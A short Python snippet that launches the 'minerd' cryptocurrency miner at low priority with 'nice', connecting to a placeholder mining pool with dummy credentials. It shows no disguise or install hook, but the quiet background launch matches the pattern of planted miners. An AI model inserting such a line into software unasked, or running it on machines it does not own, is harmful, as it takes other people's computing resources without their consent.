import subprocess

subprocess.Popen(["nice", "minerd", "--url", "stratum+tcp://pool.hashworks.invalid:3333", "--user", "a.b"])
